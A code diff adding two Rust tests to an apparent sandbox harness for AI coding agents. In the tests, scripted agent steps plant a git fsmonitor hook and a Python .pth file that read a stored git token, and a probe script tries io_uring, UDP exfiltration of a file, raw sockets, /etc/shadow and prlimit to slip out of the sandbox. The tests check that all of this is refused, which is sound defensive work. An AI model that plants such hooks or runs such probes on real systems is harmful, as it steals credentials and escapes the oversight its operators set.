@@ -439,3 +439,165 @@ async fn the_agent_cannot_type_into_the_users_terminal() {
     assert!(!String::from_utf8_lossy(&shown).contains("id > pwned"), "echoed input on the terminal");
     assert!(!ws.join("repo/pwned").exists());
 }
+
+/// The agent plants code for the user's hooks to run: a `core.fsmonitor` program in the
+/// checkout's `.git/config` (any `git status` runs it) and a `.pth` file in its HOME's python
+/// site-packages (any python runs it). Both read the git token from the secrets dir and write
+/// outside the workspace. The post hooks (`git status`, a python one-liner) run them no further
+/// than the agent could go: the fsmonitor program runs in the sandbox and is refused (EACCES,
+/// "Permission denied"), the `.pth` is never loaded (the hooks' HOME is not the agent's), and
+/// the run succeeds. Control: run as the hooks ran before (unconfined, the agent's HOME), the
+/// same planted code reads the token.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn hooks_run_nothing_the_agent_planted_outside_the_sandbox() {
+    let h = Harness::new(vec![]).await;
+    let secrets = h.opts.secrets_dir.to_string_lossy().to_string();
+    let outside = h.dir.path().join("pwned");
+    let steal = |what: &str| {
+        format!(
+            "cat {secrets}/git-cred/token > $W/stolen-{what} 2> $W/refused-{what}; echo ran > $W/ran-{what}; touch {}-{what}",
+            outside.display()
+        )
+    };
+    let plant = format!(
+        "W=$(pwd)/target && mkdir -p $W && printf 'target/\\n' >> .gitignore \
+         && printf '#!/bin/sh\\nW={{W}}\\n{fsmon}\\nexit 1\\n' | sed \"s|{{W}}|$W|\" > .git/fsmon.sh && chmod +x .git/fsmon.sh \
+         && git config core.fsmonitor \"$(pwd)/.git/fsmon.sh\" \
+         && site=$(/usr/bin/python3 -c 'import site; print(site.getusersitepackages())') && mkdir -p $site \
+         && printf 'import os; os.system(\"W=%s; {pth}\")\\n' $W > $site/evil.pth && test -s $site/evil.pth",
+        fsmon = steal("fsmonitor"),
+        pth = steal("pth"),
+    );
+    h.model.set_script(vec![
+        bash(&plant),
+        Step::tool("Write", json!({"file_path": "legit.txt", "content": "the real fix\n"})),
+        Step::text("Done."),
+    ]);
+    let hooks = "  hooks:\n    post:\n      - name: status\n        command: [git, status, --short]\n      - name: notify\n        command: [/usr/bin/python3, -c, 'print(\"notified\")']\n  workspace: {retain: Retain}\n";
+    let yaml = h.manifest("planted", hooks);
+    let (code, stdout, stderr) = run_with(&h, "planted", &yaml, true).await;
+    assert_eq!(code, 0, "{stdout}\n{stderr}");
+    let summary: serde_json::Value = serde_json::from_str(stdout.trim()).unwrap();
+    assert_eq!((summary["phase"].as_str(), summary["reason"].as_str()), (Some("Succeeded"), Some("Completed")));
+    let ws = std::path::PathBuf::from(summary["workspace"].as_str().unwrap());
+    let w = ws.join("repo/target");
+    // The fsmonitor program ran (git status started it) and was refused the token by Landlock.
+    assert_eq!(std::fs::read_to_string(w.join("ran-fsmonitor")).unwrap().trim(), "ran");
+    let refused = std::fs::read_to_string(w.join("refused-fsmonitor")).unwrap();
+    assert!(refused.contains("Permission denied"), "EACCES: {refused}");
+    assert_eq!(std::fs::read_to_string(w.join("stolen-fsmonitor")).unwrap(), "", "nothing read");
+    assert!(!outside.with_file_name("pwned-fsmonitor").exists(), "nothing written outside the workspace");
+    // The .pth was never loaded: the python hook ran with a HOME of its own.
+    assert!(!w.join("ran-pth").exists(), "the agent's .pth ran");
+    assert!(!outside.with_file_name("pwned-pth").exists());
+    let id = summary["id"].as_str().unwrap();
+    let logs = h.store.logs(id).await.unwrap();
+    assert!(logs.iter().any(|l| l.source == "hook:post:notify" && l.line == "notified"), "{logs:?}");
+
+    // Control: the planted code is live. Run as the hooks ran before this fix (unconfined, in
+    // the agent's HOME), it reads the token and writes outside the workspace.
+    for (program, args) in [("git", vec!["status", "--short"]), ("/usr/bin/python3", vec!["-c", "pass"])] {
+        let out = std::process::Command::new(program)
+            .args(&args)
+            .current_dir(ws.join("repo"))
+            .env_clear()
+            .env("PATH", std::env::var("PATH").unwrap())
+            .env("HOME", ws.join("home"))
+            .output()
+            .unwrap();
+        assert!(out.status.success(), "{program}: {}", String::from_utf8_lossy(&out.stderr));
+    }
+    assert_eq!(std::fs::read_to_string(w.join("stolen-fsmonitor")).unwrap().trim(), TOKEN);
+    assert_eq!(std::fs::read_to_string(w.join("stolen-pth")).unwrap().trim(), TOKEN);
+    assert!(outside.with_file_name("pwned-fsmonitor").exists() && outside.with_file_name("pwned-pth").exists());
+}
+
+/// The agent on one machine goes around the socket filter and the file rules: io_uring (which
+/// makes sockets without `socket(2)`), a UDP datagram carrying the README to a loopback port,
+/// a raw socket, `/etc/shadow` (readable by root), and the limits of a process outside its
+/// namespace. Each is refused with its own errno (EPERM for io_uring and prlimit, EACCES for
+/// the sockets and the file), nothing arrives, and the run succeeds. Control: the same script
+/// with `--no-sandbox` gets through (io_uring made, the datagram received, shadow read as root).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_sandbox_refuses_io_uring_udp_raw_sockets_and_root_only_files() {
+    let udp = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
+    udp.set_nonblocking(true).unwrap();
+    let port = udp.local_addr().unwrap().port();
+    let mut victim = std::process::Command::new("sleep").arg("300").spawn().unwrap();
+    // Each attempt prints "name:errno" (0: it worked) to target/attempts.
+    let probe = format!(
+        r#"import ctypes, errno, os, socket, resource
+libc = ctypes.CDLL(None, use_errno=True)
+out = open("target/attempts", "w")
+def attempt(name, f):
+    try:
+        f(); code = 0
+    except OSError as e:
+        code = e.errno
+    out.write("%s:%d\n" % (name, code))
+def uring():
+    params = ctypes.create_string_buffer(120)
+    fd = libc.syscall(425, 8, params)
+    if fd < 0:
+        raise OSError(ctypes.get_errno(), "io_uring_setup")
+    os.close(fd)
+attempt("io_uring", uring)
+def datagram():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.sendto(open("README.md", "rb").read(), ("127.0.0.1", {port}))
+attempt("udp", datagram)
+attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
+attempt("shadow", lambda: open("/etc/shadow").read())
+attempt("prlimit", lambda: resource.prlimit({victim}, resource.RLIMIT_NOFILE, (0, 0)))
+attempt("passwd", lambda: open("/etc/passwd").read())
+"#,
+        victim = victim.id()
+    );
+    let script = vec![
+        Step::tool("Write", json!({"file_path": "probe.py", "content": probe})),
+        bash("mkdir -p target && printf 'target/\\nprobe.py\\n' >> .gitignore && /usr/bin/python3 probe.py"),
+        Step::tool("Write", json!({"file_path": "legit.txt", "content": "the real fix\n"})),
+        Step::text("Done."),
+    ];
+    let root = nix::unistd::geteuid().is_root();
+    let mut results = vec![];
+    for sandbox in [true, false] {
+        let h = Harness::new(script.clone()).await;
+        let yaml = h.manifest("kernel2", "  workspace: {retain: Retain}\n");
+        let (code, stdout, stderr) = run_with(&h, "kernel2", &yaml, sandbox).await;
+        assert_eq!(code, 0, "{stdout}\n{stderr}");
+        let summary: serde_json::Value = serde_json::from_str(stdout.trim()).unwrap();
+        assert_eq!(summary["phase"], "Succeeded", "{summary}");
+        let ws = std::path::Path::new(summary["workspace"].as_str().unwrap());
+        let attempts = std::fs::read_to_string(ws.join("repo/target/attempts")).unwrap();
+        let got: std::collections::BTreeMap<String, i32> = attempts
+            .lines()
+            .filter_map(|l| l.split_once(':'))
+            .map(|(k, v)| (k.to_string(), v.parse().unwrap()))
+            .collect();
+        let mut buf = [0u8; 4096];
+        let received = udp.recv_from(&mut buf).is_ok();
+        results.push((got, received));
+    }
+    victim.kill().unwrap();
+    victim.wait().unwrap();
+    let (confined, received) = &results[0];
+    let (eperm, eacces) = (nix::libc::EPERM, nix::libc::EACCES);
+    assert_eq!(confined["io_uring"], eperm, "{confined:?}");
+    assert_eq!(confined["udp"], eacces, "{confined:?}");
+    assert_eq!(confined["raw"], eacces, "{confined:?}");
+    assert_eq!(confined["passwd"], 0, "what any user reads stays readable: {confined:?}");
+    // Another PID namespace: the user's process is not even there to name.
+    assert!([eperm, nix::libc::ESRCH].contains(&confined["prlimit"]), "{confined:?}");
+    if root {
+        assert_eq!(confined["shadow"], eacces, "{confined:?}");
+    }
+    assert!(!received, "no datagram left the sandbox");
+    let (open, received) = &results[1];
+    assert_eq!(open["io_uring"], 0, "control: io_uring works unconfined: {open:?}");
+    assert_eq!(open["udp"], 0, "{open:?}");
+    assert!(received, "control: the datagram arrives without the sandbox");
+    if root {
+        assert_eq!((open["shadow"], open["raw"], open["prlimit"]), (0, 0, 0), "control as root: {open:?}");
+    }
+}
